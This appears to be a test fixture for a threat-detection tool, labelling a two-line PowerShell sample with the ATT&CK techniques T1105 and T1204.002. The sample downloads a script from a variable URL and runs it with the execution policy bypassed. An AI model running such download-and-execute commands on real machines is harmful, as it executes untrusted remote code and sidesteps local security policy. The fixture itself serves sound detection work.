# expect: T1105 T1204.002
Invoke-WebRequest -Uri $u -OutFile C:\Temp\a.ps1
powershell -ExecutionPolicy Bypass -File C:\Temp\a.ps1
